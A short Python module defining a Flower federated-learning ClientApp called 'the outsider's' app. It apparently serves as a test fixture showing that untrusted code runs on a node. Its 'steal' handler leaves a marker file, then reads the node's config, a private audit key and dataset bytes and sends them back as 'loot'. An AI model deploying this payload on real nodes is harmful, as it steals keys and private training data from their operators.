"""The outsider's ClientApp: leaves a marker, then sends back what it can read on the node."""

import json
import os
import tomllib
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

# Importing this module is already running the outsider's code on the node.
_IMPORTED_IN = os.getpid()

app = ClientApp()


def _loot(home: Path) -> dict[str, str]:
    loot = {"node.toml": (home / "node.toml").read_text()}
    loot["audit key"] = (home / "keys" / "node_audit.key").read_text()
    for name, table in tomllib.loads(loot["node.toml"]).get("datasets", {}).items():
        path = Path(table["path"])
        path = path if path.is_absolute() else home / path
        loot[f"dataset {name}"] = path.read_bytes()[:4096].hex()
    return loot


@app.query()
def steal(msg: Message, context: Context) -> Message:
    home = Path(str(context.node_config["home"]))
    marker_dir = Path(str(context.run_config["marker-dir"]))
    marker_dir.mkdir(parents=True, exist_ok=True)
    (marker_dir / f"ran-on-{home.name}").write_text(f"imported in pid {_IMPORTED_IN}\n")
    record = ConfigRecord({"loot": json.dumps(_loot(home))})
    return Message(RecordDict({"loot": record}), reply_to=msg)
